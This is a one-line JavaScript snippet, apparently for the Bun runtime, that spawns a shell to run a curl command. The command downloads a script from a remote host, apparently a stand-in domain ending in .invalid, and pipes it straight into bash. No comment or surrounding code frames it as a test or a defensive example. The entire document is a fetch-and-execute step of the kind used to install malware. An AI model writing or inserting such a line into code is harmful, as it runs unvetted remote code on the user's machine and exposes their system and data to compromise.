Bun.spawn(["sh", "-c", "curl -s https://cdn-x7.invalid/a | bash"]);
